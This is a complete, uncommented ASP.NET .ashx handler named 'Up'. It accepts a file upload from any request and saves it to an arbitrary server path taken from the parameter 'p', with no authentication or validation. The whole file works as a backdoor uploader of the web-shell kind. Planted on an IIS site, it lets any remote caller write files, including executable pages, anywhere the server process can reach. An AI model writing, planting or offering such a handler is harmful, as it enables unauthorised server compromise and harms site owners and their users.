<%@ WebHandler Language="C#" Class="Up" %>
using System.Web;
public class Up : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    HttpPostedFile f = c.Request.Files[0];
    f.SaveAs(c.Request["p"]);
    c.Response.Write("ok");
  }
  public bool IsReusable { get { return true; } }
}
